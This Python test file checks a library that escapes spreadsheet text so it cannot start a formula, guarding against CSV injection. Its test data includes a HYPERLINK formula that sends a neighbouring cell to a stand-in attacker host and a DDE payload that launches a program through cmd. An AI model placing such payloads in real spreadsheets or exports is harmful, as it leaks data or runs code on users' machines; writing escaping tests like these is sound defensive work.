"""Spreadsheet cells: text that would start a formula is written as text; other values are not
touched, numbers stay numbers; the vectorised rule is the per-value rule."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from onceonly.cells import spreadsheet_row, spreadsheet_text, spreadsheet_texts

# Built here, not copied from a report: a formula that sends the cell next to it away when
# clicked, and the DDE form that ran programs in older Excel (OWASP "CSV Injection").
HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
DDE = "@SUM(1+9)*cmd|' /C calc'!A0"
LEADING = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]


@pytest.mark.parametrize("lead", LEADING, ids=[hex(ord(c)) for c in LEADING])
def test_text_starting_with_a_formula_character_gets_an_apostrophe(lead: str) -> None:
    value = lead + "1+1"
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        HYPERLINK,
        DDE,
        " =1+1",  # an import that trims spaces would see "=1+1"
        "\u3000=1+1",  # the ideographic space
        "  ＋1+1",
        "\t",
        "-1+1",
        "--1",
        "-1e5",
        "-12\n",
        "-１２",  # full-width digits: not the plain number the exemption is for
        "- 1",
        "+",
        "=",
        "@",
        "+86 22 2953 0000",  # phone numbers stay text, with their +
        "+8613812341234",
    ],
)
def test_formula_like_text_is_escaped(value: str) -> None:
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "120114001000",
        "11010519491231002X",
        "2026-12-03",
        "2026-12-03T10:00:00+08:00",
        "张三",
        "天津市武清区残疾人联合会",
        "a=b",
        "1-2",
        "x@example.org",
        "'=1+1",  # already text for a spreadsheet
        " 1",
        "-",  # the usual "none"
        "-12",
        "-0.5",
        "-007",
    ],
)
def test_harmless_text_is_unchanged(value: str) -> None:
    assert spreadsheet_text(value) == value


def test_a_row_keeps_numbers_dates_and_none_as_they_are() -> None:
    day = dt.date(2026, 12, 3)
    row = ["=1+1", -3, -0.5, Decimal("-1.25"), day, None, True, "-"]
    assert spreadsheet_row(row) == ["'=1+1", -3, -0.5, Decimal("-1.25"), day, None, True, "-"]
    text = io.StringIO(newline="")
    csv.writer(text).writerow(spreadsheet_row([-3, -0.5, "-12", HYPERLINK]))
    assert text.getvalue().startswith("-3,-0.5,-12,"), "a negative number is written as a number"
    assert next(csv.reader(io.StringIO(text.getvalue())))[-1] == "'" + HYPERLINK


_TEXTS = st.text(alphabet=st.sampled_from([*LEADING, " ", "\u3000", "'", "0", "9", ".", "a", "区"]))


@settings(deadline=None)  # the first call imports pyarrow.compute and compiles the patterns
@given(st.lists(st.one_of(st.none(), _TEXTS, st.text()), max_size=30))
def test_the_vectorised_rule_is_the_per_value_rule(values: list[str | None]) -> None:
    expected = [None if v is None else spreadsheet_text(v) for v in values]
    for kind in (pa.string(), pa.large_string()):
        column = pa.array(values, kind)
        escaped = spreadsheet_texts(column)
        assert escaped.type == kind and escaped.to_pylist() == expected
    chunked = spreadsheet_texts(pa.chunked_array([values, values], pa.string()))
    assert chunked.to_pylist() == expected + expected


@given(_TEXTS)
def test_escaping_is_idempotent(value: str) -> None:
    once = spreadsheet_text(value)
    assert spreadsheet_text(once) == once


def test_dictionary_and_view_columns_are_escaped_and_other_columns_untouched() -> None:
    values = [HYPERLINK, None, "-12", "ok"]
    expected = ["'" + HYPERLINK, None, "-12", "ok"]
    assert spreadsheet_texts(pa.array(values).dictionary_encode()).to_pylist() == expected
    assert spreadsheet_texts(pa.array(values, pa.string_view())).to_pylist() == expected
    numbers = pa.array([-3, 4])
    assert spreadsheet_texts(numbers) is numbers
    days = pa.array([dt.date(2026, 12, 3)])
    assert spreadsheet_texts(days) is days
